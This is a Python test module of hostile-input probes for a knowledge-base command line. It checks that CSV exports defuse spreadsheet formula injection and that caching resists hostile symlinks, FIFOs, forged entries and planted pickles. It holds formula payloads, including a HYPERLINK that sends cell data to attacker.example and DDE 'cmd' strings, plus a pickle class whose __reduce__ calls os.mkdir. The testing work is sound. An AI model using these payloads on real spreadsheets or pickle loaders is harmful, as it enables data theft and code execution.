"""Hostile inputs a command must *survive* rather than refuse: spreadsheet
formulas in record text, and hostile cache keys and cache folders.

A probe plants its input in a fresh small data root, runs the real command
and returns ``None`` when the outcome is clean, else what went wrong. The
outcome is ``clean``, ``wrong`` (the check failed), ``crashed`` (an exception
or a traceback) or ``hung`` (no answer within :data:`PROBE_SECONDS`).
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import pickle
import stat
import traceback
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from masrl_kb.kb import cache
from masrl_kb.kb.synthetic import write_synthetic_root
from tests.hostile.running import TimeUp, deadline, run_cli

PROBE_SECONDS = 60
SECRET = Path("/etc/passwd")


@dataclass(frozen=True)
class Probe:
    group: str
    name: str
    run: Callable[[Path], str | None]  # (scratch folder) -> failure reason or None

    @property
    def id(self) -> str:
        return f"{self.group}/{self.name}"


@dataclass
class ProbeOutcome:
    kind: str  # clean, wrong, crashed, hung
    reason: str = ""


def run_probe(probe: Probe, tmp: Path) -> ProbeOutcome:
    try:
        with deadline(PROBE_SECONDS):
            reason = probe.run(tmp)
    except TimeUp:
        return ProbeOutcome("hung", f"no answer in {PROBE_SECONDS} s")
    except BaseException:  # noqa: BLE001 - a crash is what this measures
        return ProbeOutcome("crashed", traceback.format_exc())
    return ProbeOutcome("wrong", reason) if reason else ProbeOutcome("clean")


def cli(*argv: str) -> tuple[int, str, str]:
    """The real command line in-process: (exit code, stdout, stderr); a crash raises."""
    run = run_cli(list(argv))
    if run.hung:
        raise TimeUp
    if run.crash:
        raise RuntimeError(run.crash)
    assert run.code is not None
    return run.code, run.out, run.err


def small_root(tmp: Path) -> Path:
    return write_synthetic_root(tmp / "kb", papers=3, exclusions=2)


# ---------------------------------------------------------------- CSV formulas

STARTS = ("=", "+", "-", "@")  # what a record may hold; tab and CR are refused by validate
PAYLOADS = {
    "=": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=": "'=already quoted",
}


def _edit_record(path: Path, values: dict[str, str]) -> None:
    from masrl_kb.contrib.upstream import edit_fields

    path.write_text(edit_fields(path.read_text("utf-8"), values, {}), "utf-8")


def _plant_formula(root: Path, payload: str) -> tuple[str, str, dict[str, str]]:
    """The payload in free-text fields of the first paper and exclusion."""
    paper = sorted((root / "papers").glob("*.yaml"))[0]
    exclusion = sorted((root / "exclusions").glob("*.yaml"))[0]
    paper_values = {"venue": payload, "affiliation": payload, "notes": payload}
    _edit_record(paper, paper_values)
    _edit_record(exclusion, {"note": payload})
    return paper.stem, exclusion.stem, paper_values


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _inert(rows: list[dict[str, str]]) -> str | None:
    from masrl_kb.contrib.export.csv_io import FORMULA_START

    for row in rows:
        for column, cell in row.items():
            if not isinstance(cell, str) or column is None:
                return f"a row is broken: {row!r}"
            if cell.startswith(FORMULA_START):
                return f"cell {column} starts with {cell[:1]!r}: a spreadsheet runs it"
    return None


def _export_csv(root: Path, payload: str) -> str | None:
    from masrl_kb.contrib.export.csv_io import records_from_csv

    key, _, values = _plant_formula(root, payload)
    code, out, err = cli("--root", str(root), "export", "csv")
    if code != 0:
        return f"export csv exit {code}: {err.strip()}"
    bad = _inert(_rows(out))
    back = next(r for r in records_from_csv(out) if r["key"] == key)
    if {k: back[k] for k in values} != values:
        return "the CSV does not read back exactly"
    return bad


def _survey_csv(which: str) -> Callable[[Path, str], str | None]:
    def run(root: Path, payload: str) -> str | None:
        _plant_formula(root, payload)
        out = root.parent / "survey"
        code, _, err = cli("--root", str(root), "export", "survey-csv", "-o", str(out))
        if code != 0:
            return f"export survey-csv exit {code}: {err.strip()}"
        bad = _inert(_rows((out / which).read_text("utf-8")))
        argv = ["--root", str(root), "import-upstream", str(out / "papers.csv")]
        code, text, err = cli(*argv, str(out / "excluded.csv"))
        if code != 0 or not text.rstrip().endswith("0 difference(s), 0 new upstream row(s)"):
            return f"the survey CSV does not read back exactly: {text[-300:]}{err[-300:]}"
        return bad

    return run


def _downloads(which: str) -> Callable[[Path, str], str | None]:
    def run(root: Path, payload: str) -> str | None:
        from masrl_kb.contrib.export.csv_io import unguard_cell
        from masrl_kb.site.about import download_files
        from masrl_kb.site.context import load_context

        _plant_formula(root, payload)
        text = download_files(load_context(root))[f"downloads/{which}"]
        rows = _rows(text)
        cells = {unguard_cell(c) for row in rows for c in row.values()}
        if payload not in cells:
            return "the payload does not read back exactly"
        return _inert(rows)

    return run


def _raw_cells(start: str) -> Callable[[Path], str | None]:
    """Tab and CR cannot reach a record; the writers are checked on them directly."""

    def run(tmp: Path) -> str | None:  # noqa: ARG001
        from masrl_kb.contrib.export.csv_io import unguard_row
        from masrl_kb.contrib.export.survey_csv import csv_text
        from masrl_kb.contrib.export.tables import records_csv

        record = {"a": f"{start}=1+1", "b": f"{start}@x", "c": "plain"}
        for text in (records_csv([record]), csv_text(("a", "b", "c"), [record])):
            rows = _rows(text)
            if _inert(rows) or [unguard_row(r) for r in rows] != [record]:
                return f"{start!r}: {_inert(rows) or 'does not read back exactly'}"
        return None

    return run


def formula_probes() -> list[Probe]:
    writers = {
        "export-csv": _export_csv,
        "survey-papers": _survey_csv("papers.csv"),
        "survey-excluded": _survey_csv("excluded.csv"),
        "downloads-papers": _downloads("papers.csv"),
        "downloads-exclusions": _downloads("exclusions.csv"),
    }
    probes = []
    for start, payload in PAYLOADS.items():
        for name, writer in writers.items():

            def run(tmp: Path, writer=writer, payload=payload) -> str | None:
                return writer(small_root(tmp), payload)

            probes.append(Probe("csv-formulas", f"{name}-{start!r}", run))
    probes += [Probe("csv-formulas", f"writers-{start!r}", _raw_cells(start)) for start in "\t\r"]
    return probes


# ---------------------------------------------------------------- caches
# The contract (masrl_kb/kb/cache.py): one private folder per user, outside every clone.


@contextlib.contextmanager
def _environment(tmp: Path, folder: str | None, xdg: str | None = None) -> Iterator[Path]:
    """HOME in the scratch folder, the cache folder and XDG_CACHE_HOME as given (None: unset)."""
    names = ("HOME", cache.ENV_DIR, "XDG_CACHE_HOME")
    saved = {k: os.environ.get(k) for k in names}
    home = tmp / "home"
    home.mkdir()
    for name, value in zip(names, (str(home), folder, xdg), strict=True):
        if value is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = value
    cache.warn.cache_clear()
    try:
        yield home
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
        cache.warn.cache_clear()


def _state(path: Path) -> object:
    try:
        info = os.lstat(path)
    except FileNotFoundError:
        return None
    if path.is_symlink():
        return ("link", os.readlink(path))
    if path.is_dir():
        return ("dir", stat.S_IMODE(info.st_mode), sorted(p.name for p in path.iterdir()))
    if not path.is_file():  # a FIFO or device: never opened
        return ("other", info.st_mode)
    return ("file", info.st_mode, info.st_size if info.st_size > 1 << 20 else path.read_bytes())


def _tree(root: Path) -> list[tuple[str, object]]:
    """Every path under the data root with its state: nothing may be written there."""
    return [(p.relative_to(root).as_posix(), _state(p)) for p in sorted(root.rglob("*"))]


def _judge_run(
    root: Path, watched: list[Path], warned: bool, commands=("validate", "stats")
) -> str | None:
    before = [_state(p) for p in watched]
    tree = _tree(root)
    for command in commands:
        cache.warn.cache_clear()  # one process per command in real use
        code, out, err = cli("--root", str(root), command)
        text = out + err
        if code != 0 or "Traceback" in text:
            return f"{command} exit {code}: {text[-400:]}"
        warnings = [line for line in err.splitlines() if "warning" in line]
        if len(warnings) > 1 or (warned and not warnings) or (not warned and warnings):
            return f"{command}: expected {'one warning' if warned else 'no warning'}: {err!r}"
        if "root:x:" in text:
            return "secret content echoed"
    if _tree(root) != tree:
        return "the data root changed"
    after = [_state(p) for p in watched]
    if after != before:
        changed = [str(p) for p, a, b in zip(watched, after, before, strict=True) if a != b]
        return f"changed: {changed}"
    return None


def _folder_case(make: Callable[[Path, Path], list[Path]]) -> Callable[[Path], str | None]:
    """``make(folder, scratch)`` plants a cache folder that may not be trusted and returns
    what must not change: every command warns once and runs uncached."""

    def run(tmp: Path) -> str | None:
        root = small_root(tmp)
        folder = tmp / "user-cache" / "masrl-kb"
        folder.parent.mkdir()
        with _environment(tmp, str(folder)):
            return _judge_run(root, make(folder, tmp), warned=True)

    return run


def _open_folder(mode: int) -> Callable[[Path, Path], list[Path]]:
    def make(folder: Path, tmp: Path) -> list[Path]:
        folder.mkdir()
        os.chmod(folder, mode)
        return [folder]

    return make


def _linked_folder(target: Path | None) -> Callable[[Path, Path], list[Path]]:
    def make(folder: Path, tmp: Path) -> list[Path]:
        goal = target or tmp / "elsewhere"
        if target is None:
            goal.mkdir(mode=0o700)
        folder.symlink_to(goal)
        return [folder, goal]

    return make


def _odd_folder(kind: str) -> Callable[[Path, Path], list[Path]]:
    def make(folder: Path, tmp: Path) -> list[Path]:
        if kind == "file":
            folder.write_text("a file\n")
        elif kind == "fifo":
            os.mkfifo(folder, 0o600)
        else:  # another user's (only root can give a folder away; else the probe is moot)
            folder.mkdir(mode=0o700)
            if os.geteuid() == 0:
                os.chown(folder, 65534, 65534)
            else:
                os.chmod(folder, 0o777)
        return [folder]

    return make


def _relative(variable: str) -> Callable[[Path], str | None]:
    """A relative location would put the cache inside the folder a command runs in: ignored."""

    def run(tmp: Path) -> str | None:
        root = small_root(tmp)
        here = os.getcwd()
        values = {"dir": ("relative-cache", None), "xdg": (None, "relative-cache")}[variable]
        with _environment(tmp, *values) as home:
            os.chdir(root)
            try:
                reason = _judge_run(root, [root / "relative-cache"], warned=False)
            finally:
                os.chdir(here)
            if reason is None and not any((home / ".cache" / "masrl-kb").glob("validate-*")):
                reason = "the entries are not in the home cache folder"
        return reason

    return run


def _planted(kind: str) -> Callable[[Path], str | None]:
    """Whatever sits in the clone's ``.cache`` (where caches lived before issue 22) is
    neither read, followed nor written, and earns no warning: it is not looked at."""

    def run(tmp: Path) -> str | None:
        root = small_root(tmp)
        target, dot = tmp / "target", root / ".cache"
        with _environment(tmp, str(tmp / "user-cache")):
            if kind in ("link", "dangling"):
                if kind == "link":
                    target.mkdir()
                dot.symlink_to(target)
            elif kind == "file":
                dot.write_text("not a folder\n")
            else:  # an old cache file in .cache is a link: the reader must not follow it
                dot.mkdir()
                target.write_text("keep\n")
                (dot / f"{kind}.json").symlink_to(target)
            return _judge_run(root, [dot, target], warned=False)

    return run


def _forged(tmp: Path) -> str | None:
    """Entries planted in the clone say a broken record is valid: never read."""
    root = small_root(tmp)
    folder = tmp / "user-cache"
    with _environment(tmp, str(folder)):
        code, _, _ = cli("--root", str(root), "validate")
        (root / ".cache").mkdir()
        for entry in folder.iterdir():  # this user's own valid entries, now in the clone
            (root / ".cache" / entry.name).write_bytes(entry.read_bytes())
            entry.unlink()
        bad = sorted((root / "papers").glob("*.yaml"))[0]
        bad.write_text(bad.read_text("utf-8").replace("year: ", "year: 1", 1), "utf-8")
        code, out, _ = cli("--root", str(root), "validate")
        if code != 2 or "year" not in out:
            return f"a planted cache hid a broken record (exit {code})"
    return None


def _entry_case(kind: str) -> Callable[[Path], str | None]:
    """An entry of the user's folder that is a link, a FIFO or huge: a miss, then replaced."""

    def run(tmp: Path) -> str | None:
        root = small_root(tmp)
        folder = tmp / "user-cache"
        with _environment(tmp, str(folder)):
            cli("--root", str(root), "stats")
            for entry in list(folder.iterdir()):
                entry.unlink()
                if kind == "link-to-secret":
                    entry.symlink_to(SECRET)
                elif kind == "fifo":
                    os.mkfifo(entry, 0o600)
                else:
                    with open(entry, "wb") as fh:
                        fh.truncate(8 << 30)
            return _judge_run(root, [SECRET], warned=False)

    return run


class _Runs:
    """Unpickling this makes the folder ``path``: proof that a planted pickle was loaded."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return (os.mkdir, (str(self.path),))


def _pickle_in_root(variable: str) -> Callable[[Path], str | None]:
    """``MASRL_KB_CACHE_DIR`` or ``XDG_CACHE_HOME`` inside the clone, where a pull request
    committed a private-looking folder of pickles under the very keys the commands look
    up (issue 27): never loaded, nothing written there, one warning."""

    def run(tmp: Path) -> str | None:
        root = small_root(tmp)
        entries, ran = root / ".cache" / "masrl-kb", tmp / "the-pickle-ran"
        values = {"dir": (str(entries), None), "xdg": (None, str(root / ".cache"))}[variable]
        with _environment(tmp, *values):
            entries.mkdir(parents=True, mode=0o700)
            os.chmod(entries, 0o700)
            import numpy as np
            import pandas as pd

            frames = cache.pool_fingerprint(root, f"frames {pd.__version__} {np.__version__}")
            for key in (f"validate-{cache.data_fingerprint(root, 'validate')}", f"frames-{frames}"):
                (entries / f"{key}{cache.SUFFIX}").write_bytes(pickle.dumps(_Runs(ran)))
            reason = _judge_run(root, [entries], warned=True)
        return reason or ("a planted pickle ran" if ran.exists() else None)

    return run


def cache_probes() -> list[Probe]:
    g = "caches"
    probes = [
        Probe(g, f"folder-mode-{m:o}", _folder_case(_open_folder(m)))
        for m in (0o777, 0o770, 0o702, 0o720, 0o775)
    ]
    probes += [
        Probe(g, "folder-symlink", _folder_case(_linked_folder(None))),
        Probe(g, "folder-symlink-to-etc", _folder_case(_linked_folder(Path("/etc")))),
        Probe(g, "folder-dangling-symlink", _folder_case(_linked_folder(Path("/nonexistent/x")))),
        Probe(g, "folder-is-file", _folder_case(_odd_folder("file"))),
        Probe(g, "folder-is-fifo", _folder_case(_odd_folder("fifo"))),
        Probe(g, "folder-of-another-user", _folder_case(_odd_folder("other"))),
        Probe(g, "cache-dir-relative", _relative("dir")),
        Probe(g, "xdg-relative", _relative("xdg")),
        Probe(g, "dot-cache-symlink", _planted("link")),
        Probe(g, "dot-cache-dangling-symlink", _planted("dangling")),
        Probe(g, "dot-cache-is-file", _planted("file")),
        Probe(g, "records-cache-symlink", _planted("records-v2")),
        Probe(g, "frames-cache-symlink", _planted("frames-v1")),
        Probe(g, "forged-cache-in-clone", _forged),
        Probe(g, "entry-symlink-to-secret", _entry_case("link-to-secret")),
        Probe(g, "entry-fifo", _entry_case("fifo")),
        Probe(g, "entry-sparse-8gb", _entry_case("sparse")),
    ]
    probes += [Probe(g, f"pickle-in-root-{v}", _pickle_in_root(v)) for v in ("dir", "xdg")]
    return probes


def all_probes() -> list[Probe]:
    from tests.hostile.api_cases import api_probes  # it builds on this module's Probe

    return formula_probes() + cache_probes() + api_probes()
